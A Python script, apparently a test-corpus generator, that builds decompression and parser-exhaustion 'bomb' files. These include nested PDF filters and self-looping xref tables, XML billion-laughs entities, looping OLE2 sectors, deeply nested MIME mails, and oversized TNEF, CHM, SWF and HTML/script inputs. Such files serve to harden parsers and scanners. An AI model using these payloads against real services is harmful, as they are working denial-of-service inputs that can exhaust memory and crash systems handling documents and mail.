"""Bombs of documents, mails and pages: written into the folder that is named."""
import base64
import pathlib
import struct
import sys
import zlib

MB = 1 << 20
END, FREE, FAT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def flated(data, times):
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def pdf(*objects, trailer="<<>>", start=0):
    """Objects numbered from 1, each a dictionary with the bytes of its stream, or bytes alone."""
    out = b"%PDF-1.7\n"
    for number, one in enumerate(objects, 1):
        dictionary, stream = one if isinstance(one, tuple) else (one, None)
        body = dictionary if stream is None else dictionary + b"stream\n" + stream + b"\nendstream"
        out += b"%d 0 obj" % number + body + b" endobj\n"
    return out + b"trailer" + trailer.encode() + b"\nstartxref\n%d\n%%%%EOF" % start


def pdf_filters():
    data = flated(bytes(90 * MB), 4)
    return pdf((b"<</Filter[/Fl/Fl/Fl/Fl]/Length %d>>" % len(data), data))


def pdf_growth():
    """Runs of runs of runs: each filter makes 64 bytes of one."""
    return pdf((b"<</Filter[/RL/RL/RL/RL/RL]>>", b"\x81\x81" * 5_000))


def pdf_object_streams(depth):
    """Object streams whose objects are object streams (ISO 32000-1, 7.5.7, forbids it)."""
    inner = b"<</JS(the innermost)>>"
    for _ in range(depth):
        head = b"1 0 "
        inner = b"<</Type/ObjStm/N 1/First 4>>stream\n" + head + inner + b"\nendstream"
    return pdf(inner)


def pdf_extends():
    one = b"<</Type/ObjStm/N 1/First 4/Extends %d 0 R>>"
    return pdf(*((one % (number % 50 + 1), b"9 0 <</JS 9 0 R>>") for number in range(1, 51)))


def pdf_tables():
    """Each table names itself as the one before."""
    body = pdf(b"<</JS(a)>>")
    at = len(body) + 1
    loop = b"\nxref\n0 1\n0000000000 65535 f \ntrailer<</Prev %d/XRefStm %d/Size 4294967295>>\nstartxref\n%d\n%%%%EOF" % (at, at, at)
    return body + loop * 1000


def compound(fat, directory, sectors, difat_start=END, difat_count=0, fat_sectors=None):
    """[MS-CFB], version 3: the table of sectors in the first sectors, the directory behind it."""
    table = struct.pack("<%dI" % len(fat), *fat)
    table += b"\xff" * (-len(table) % 512)
    count = len(table) // 512
    listed = list(range(count) if fat_sectors is None else fat_sectors)[:109]
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, len(listed), count, 0, 4096, END, 0, difat_start, difat_count)
    head += struct.pack("<109I", *(listed + [FREE] * (109 - len(listed))))
    return head + table + directory + sectors


def entry(name, kind, start, size, left=FREE, right=FREE, child=FREE):
    wide = name.encode("utf-16-le") + b"\0\0"
    return wide.ljust(64, b"\0") + struct.pack("<HBBIII", len(wide), kind, 1, left, right, child) + bytes(36) + struct.pack("<IQ", start, size)


def ole2_streams(count, loop):
    """So many streams of the same 4 MiB; or of one sector that follows itself."""
    sectors = 4 * MB // 512
    directory_sectors = (count + 4) // 4
    table_sectors = (sectors + directory_sectors) // 128 + 3
    first = table_sectors + directory_sectors
    fat = [FAT] * table_sectors + [*range(table_sectors + 1, first), END]
    fat += [first] if loop else [*range(first + 1, first + sectors), END]
    entries = [entry("Root Entry", 5, END, 0, child=1)]
    for number in range(1, count + 1):
        right = number + 1 if number < count else FREE
        entries.append(entry("%05d" % number, 2, first, 4 * MB, right=right))
    while len(entries) % 4:
        entries.append(bytes(128))
    fat += [FREE] * (table_sectors * 128 - len(fat))
    return compound(fat, b"".join(entries), bytes(512 if loop else 4 * MB))


def ole2_directory():
    """Entries that are each other's children and neighbours."""
    entries = [entry("Root Entry", 5, END, 0, child=1), entry("A", 1, 0, 0, 2, 3, 0), entry("B", 1, 0, 0, 1, 1, 1), entry("C", 1, 0, 0, 3, 3, 3)]
    return compound([FAT, END] + [FREE] * 126, b"".join(entries), b"")


def ole2_difat():
    """A list of tables that follows itself, and a directory that does."""
    sector = struct.pack("<128I", *[0] * 127, 2)
    return compound([FAT, 1, 0xFFFFFFFC] + [FREE] * 125, entry("Root Entry", 5, 2, 1 << 40, child=0) * 4, sector, 2, 0xFFFFFFFF)


def multipart(depth):
    """Each part is parts of its own."""
    head = b"From: a\n"
    for level in range(depth):
        head += b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (level, level)
    return head + b"\nthe innermost\n"


def attached(depth):
    """Mails in mails."""
    return b"From: a\n" + b"Content-Type: message/rfc822\n\nFrom: a\n" * depth + b"\nthe innermost\n"


def in_base64(depth):
    data = b"From: a\n\nthe innermost\n"
    for _ in range(depth):
        data = b"From: a\nContent-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n" + base64.encodebytes(data)
    return data


def parts(count):
    return b"From: a\nContent-Type: multipart/mixed; boundary=x\n\n" + b"--x\n\na\n" * count + b"--x--\n"


def binhex(count):
    """Runs (RFC 1741): 255 bytes for three, in four letters."""
    letters = b"!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"
    head = b"\1a\0????????" + bytes(2) + struct.pack(">II", 255 * count + 1, 0)
    data = head + b"\0\0" + b"a" + b"\x90\xff" * count + bytes(4)
    data += bytes(-len(data) % 3)
    plain = base64.b64encode(data)
    table = bytes.maketrans(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", letters)
    text = plain.translate(table)
    lines = b"\n".join(text[at : at + 64] for at in range(0, len(text), 64))
    return b"(This file must be converted with BinHex 4.0)\n\n:" + lines + b":\n"


def data_addresses(depth):
    """Pages in addresses of pages."""
    page = b"<html>the innermost</html>"
    for _ in range(depth):
        page = b'<html><body><a href="data:text/html;base64,' + base64.b64encode(page) + b'">x</a></body></html>'
    return page


def vba(megabytes):
    """A container of [MS-OVBA] 2.4.1: chunks of 4 KiB in nine bytes, of spaces."""
    chunk = b"\x06\xb0" + b"\x02 " + struct.pack("<H", 4092) + b"\0"
    return b"\1" + chunk * (megabytes * 256)


def tnef_values(count):
    """One attachment with a long name and as many contents, of no byte each, as bytes allow."""
    name = struct.pack("<HHII", 0x1E, 0x3704, 1, 4096) + b"n" * 4096
    values = struct.pack("<HHI", 0x1102, 0x3701, count) + bytes(4 * count)
    properties = struct.pack("<I", 2) + name + values
    checksum = struct.pack("<H", sum(properties) & 0xFFFF)
    return b"\x78\x9f\x3e\x22\x01\x00" + b"\x02\x05\x90\x06\x00" + struct.pack("<I", len(properties)) + properties + checksum


def onenote(count, size):
    guid = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    head = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1008)
    return head + (guid + struct.pack("<Q", size) + bytes(12) + b"abc".ljust(8, b"\0")) * count


def encint(number):
    out = bytes([number & 127])
    while number := number >> 7:
        out = bytes([number & 127 | 128]) + out
    return out


def chm(count, size, chunks=1, next_chunk=FREE):
    """A help file: `count` names in each of `chunks` that follow each other as `next_chunk` says."""
    directory = b""
    for number in range(chunks):
        entries = b"".join(encint(5) + b"%05d" % at + encint(0) + encint(0) + encint(size) for at in range(count))
        following = next_chunk if next_chunk != "next" else number + 1
        body = b"PMGL" + struct.pack("<IIII", 4096 - 20 - len(entries), 0, FREE, following) + entries
        directory += body.ljust(4096, b"\0")
    head = (b"ITSP" + struct.pack("<IIIIIIIIII", 1, 0x54, 10, 4096, 2, 1, FREE, 0, chunks - 1, FREE) + struct.pack("<I", chunks)).ljust(0x54, b"\xff")
    start = 0x60
    file = (b"ITSF" + struct.pack("<II", 3, 0x60)).ljust(0x48, b"\0")
    file += struct.pack("<QQQ", start, len(head + directory), start + len(head + directory))
    return file + head + directory + bytes(MB)


def chm_entries(count):
    """One chunk of as many entries as bytes allow, four each."""
    size = 20 + 4 * count
    head = b"ITSP" + struct.pack("<IIII", 1, 0x54, 10, size)
    chunk = b"PMGL" + bytes(16) + bytes(4 * count)
    file = (b"ITSF" + struct.pack("<II", 3, 0x60)).ljust(0x48, b"\0")
    file += struct.pack("<QQQ", 0x60, 0x54 + size, 0x60 + 0x54 + size)
    return file + head.ljust(0x54, b"\0") + chunk


def bombs():
    yield "pdf-filters", pdf_filters()
    yield "pdf-growth", pdf_growth()
    yield "pdf-object-streams", pdf_object_streams(200)
    yield "pdf-extends", pdf_extends()
    yield "pdf-tables", pdf_tables()
    yield "pdf-arrays", pdf(b"[" * 5_000_000)
    yield "pdf-predictor", pdf((b"<</Filter/Fl/DecodeParms<</Predictor 12/Columns 2147483647/Colors 32/BitsPerComponent 16>>>>", flated(bytes(MB), 1)))
    yield "xml-entities", b'<?xml version="1.0"?>\n<!DOCTYPE l [<!ENTITY a0 "lol">' + b"".join(b'<!ENTITY a%d "%s">' % (at, b"&a%d;" % (at - 1) * 10) for at in range(1, 10)) + b"]>\n<l>&a9;</l>\n"
    yield "xml-depth", b'<?xml version="1.0"?>\n' + b"<a>" * 5_000_000
    yield "ole2-same", ole2_streams(2_000, False)
    yield "ole2-loop", ole2_streams(100, True)
    yield "ole2-directory", ole2_directory()
    yield "ole2-difat", ole2_difat()
    yield "rtf-depth", b"{\\rtf1" + b"{" * 5_000_000
    yield "rtf-objects", b"{\\rtf1" + b"{\\object{\\*\\objdata 0105000002000000}}" * 20_000 + b"}"
    yield "rtf-binary", b"{\\rtf1{\\object{\\*\\objdata \\bin2147483647 abc}}" + b"\\bin999999999 " * 100_000
    yield "onenote-many", onenote(12_000, 3)
    yield "onenote-size", onenote(10, (1 << 63) - 1)
    yield "mail-parts-deep", multipart(3_000)
    yield "mail-attached", attached(200)
    yield "mail-in-base64", in_base64(30)
    yield "mail-parts", parts(12_000)
    yield "mail-header", b"From: a\nSubject: " + b"s" * (20 * MB) + b"\n\na\n"
    yield "mail-fields", b"From: a\n" + b"X-A: b\n" * 2_000_000 + b"\na\n"
    yield "mail-folds", b"From: a\nContent-Type: a/b;" + b"\n x=y;" * 2_000_000 + b"\n\na\n"
    yield "mail-bomb", b"From: a\nContent-Type: application/gzip\nContent-Transfer-Encoding: base64\n\n" + base64.encodebytes(zlib.compress(bytes(110 * MB), 9, wbits=31))
    yield "mbox-many", b"From a\nFrom: a\n\na\n\n" * 12_000
    yield "uuencode-many", b"begin 644 a\n#86)C\n`\nend\n" * 12_000
    yield "binhex-runs", binhex(200_000)
    yield "tnef-many", b"\x78\x9f\x3e\x22\x01\x00" + (b"\x02\x02\x90\x06\x00" + struct.pack("<I", 14) + bytes(14) + bytes(2) + b"\x02\x0f\x80\x06\x00" + struct.pack("<I", 3) + b"abc" + struct.pack("<H", 294)) * 12_000
    yield "tnef-values", tnef_values(900_000)
    yield "tnef-size", b"\x78\x9f\x3e\x22\x01\x00" + b"\x02\x0f\x80\x06\x00" + struct.pack("<I", 0xFFFFFFFF) + b"abc"
    yield "html-data", data_addresses(30)
    yield "html-many", b"<html>" + b'<a href="data:text/plain;base64,YWJj">' * 12_000
    yield "html-scripts", b"<html>" + b"<script>a()</script>" * 300_000
    yield "html-tags", b"<html>" + b"<" * 10_000_000
    yield "html-comments", b"<html>" + b"<!--" * 2_000_000
    yield "html-entities", b"<html>" + b"&#x3c;" * 2_000_000
    yield "html-wide", b"\xff\xfe" + ("<html>" + "<p \n>" * 3_000_000).encode("utf-16-le")
    yield "script-escapes", b"<html><script>" + b"eval(unescape('" * 2_000 + b"%41" * 2_000_000 + b"'))</script>"
    yield "script-strings", b"<html><script>a='" + b"a'+'" * 3_000_000 + b"'</script>"
    yield "script-names", b"<html><script>" + b"".join(b"var a%d=1;" % at for at in range(300_000)) + b"</script>"
    yield "swf-flat", b"CWS\x0d" + struct.pack("<I", 110 * MB) + zlib.compress(bytes(110 * MB), 9)
    yield "swf-size", b"CWS\x0d\xff\xff\xff\xff" + zlib.compress(b"abc")
    yield "chm-same", chm(350, MB, 50, "next")
    yield "chm-entries", chm_entries(4_000_000)
    yield "chm-loop", chm(3, 10, 2, 0)


for name, content in bombs():
    (pathlib.Path(sys.argv[1]) / name).write_bytes(content)
